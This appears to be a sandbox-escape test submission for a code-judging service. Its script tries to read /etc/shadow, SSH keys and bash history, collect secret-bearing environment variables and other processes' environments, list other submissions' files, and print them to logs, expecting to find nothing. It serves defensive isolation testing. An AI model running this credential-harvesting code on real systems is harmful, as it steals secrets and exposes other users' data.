# Attack: read /etc/shadow, SSH keys, the worker's environment (database/broker URLs, keys),
# other processes' environments and other submissions' files, and leak them through stdout
# (which ends up in the result's logs). Expected: nothing is found; verdict `correct`, and the
# test checks that its canary never appears in the result.
import glob
import os

import numpy as np
import torch
import torch.nn as nn

found = {}
for path in ["/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa", "/root/.ssh/id_ed25519",
             os.path.expanduser("~/.ssh/id_rsa"), "/root/.bash_history", "/etc/postgresql",
             "/var/lib/postgresql", "/etc/redis/redis.conf", "/root/.kjudge"]:
    try:
        with open(path, "rb") as f:
            found[path] = f.read(200)
    except OSError:
        pass
for key, value in os.environ.items():
    if any(w in key.upper() for w in ("DATABASE", "BROKER", "REDIS", "SECRET", "TOKEN", "KEY", "CANARY")):
        found["env:" + key] = value
for environ in glob.glob("/proc/*/environ"):
    try:
        data = open(environ, "rb").read()
    except OSError:
        continue
    if b"CANARY" in data or b"postgresql://" in data or b"redis://" in data:
        found[environ] = data[:200]
# Other submissions: anything that looks like a candidate or a scratch dir outside our own.
for pattern in ["/tmp/*/*.py", "/tmp/kjudge*", "/root/.kjudge/**", "/var/tmp/*", "/home/*/*"]:
    for p in glob.glob(pattern, recursive=True)[:20]:
        own = (os.getcwd(), os.path.dirname(os.path.abspath(__file__)))
        if os.path.exists(p) and not p.startswith(own):
            found[p] = b""
print("EXFIL", found)
if found:
    raise RuntimeError(f"ATTACK SUCCEEDED: {sorted(found)}")


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.from_numpy(np.maximum(x.numpy(), 0.0))
